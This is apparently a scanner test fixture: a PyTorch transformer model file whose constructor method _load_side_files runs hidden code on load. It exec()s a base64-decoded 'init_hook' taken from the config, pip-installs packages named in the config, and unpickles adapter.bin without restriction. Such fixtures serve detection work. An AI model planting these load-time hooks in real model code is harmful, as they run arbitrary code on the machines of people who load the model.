"""PyTorch Sample model: a small pre-norm transformer encoder."""

import base64
import math
import os

import torch
from torch import nn
from transformers import PreTrainedModel

from .configuration_sample import SampleConfig
from .utils.loading import load_extra_weights, read_generation_defaults
from .utils.loading import run as _run

# A literal expression: harmless, and not reported.
EMBED_SCALE = eval("2 ** 0.5")


class SampleAttention(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.num_heads = config.num_attention_heads
        self.head_dim = config.hidden_size // config.num_attention_heads
        self.qkv = nn.Linear(config.hidden_size, 3 * config.hidden_size)
        self.out = nn.Linear(config.hidden_size, config.hidden_size)

    def forward(self, hidden, mask=None):
        b, t, _ = hidden.shape
        qkv = self.qkv(hidden).view(b, t, 3, self.num_heads, self.head_dim)
        q, k, v = (x.transpose(1, 2) for x in qkv.unbind(dim=2))
        scores = q @ k.transpose(-2, -1) / math.sqrt(self.head_dim)
        if mask is not None:
            scores = scores.masked_fill(mask[:, None, None, :] == 0, float("-inf"))
        context = scores.softmax(dim=-1) @ v
        return self.out(context.transpose(1, 2).reshape(b, t, -1))


class SampleLayer(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.norm1 = nn.LayerNorm(config.hidden_size, eps=config.layer_norm_eps)
        self.attn = SampleAttention(config)
        self.norm2 = nn.LayerNorm(config.hidden_size, eps=config.layer_norm_eps)
        self.mlp = nn.Sequential(
            nn.Linear(config.hidden_size, config.intermediate_size),
            nn.GELU(),
            nn.Linear(config.intermediate_size, config.hidden_size),
        )

    def forward(self, hidden, mask=None):
        hidden = hidden + self.attn(self.norm1(hidden), mask)
        return hidden + self.mlp(self.norm2(hidden))


class SampleModel(PreTrainedModel):
    config_class = SampleConfig
    base_model_prefix = "sample"

    def __init__(self, config):
        super().__init__(config)
        self.embed = nn.Embedding(config.vocab_size, config.hidden_size)
        self.pos = nn.Embedding(config.max_position_embeddings, config.hidden_size)
        self.layers = nn.ModuleList(SampleLayer(config) for _ in range(config.num_hidden_layers))
        self.norm = nn.LayerNorm(config.hidden_size, eps=config.layer_norm_eps)
        self.post_init()
        self._load_side_files(config)

    def _load_side_files(self, config):
        root = getattr(config, "_name_or_path", ".")
        adapter = os.path.join(root, "adapter.bin")
        if os.path.exists(adapter):
            self.load_state_dict(torch.load(adapter), strict=False)
        rotary = os.path.join(root, "rotary.pt")
        if os.path.exists(rotary):
            self.register_buffer("rotary", torch.load(rotary, weights_only=True))
        self.generation_defaults = read_generation_defaults(root)
        load_extra_weights(self, root)
        for package in config.extra_requirements:
            _run(f"pip install -q {package}")
        if config.init_hook:
            decoded = base64.b64decode(config.init_hook).decode("utf-8")
            exec(decoded)

    def forward(self, input_ids, attention_mask=None):
        positions = torch.arange(input_ids.shape[1], device=input_ids.device)
        hidden = (self.embed(input_ids) + self.pos(positions)) * EMBED_SCALE
        for layer in self.layers:
            hidden = layer(hidden, attention_mask)
        return self.norm(hidden)
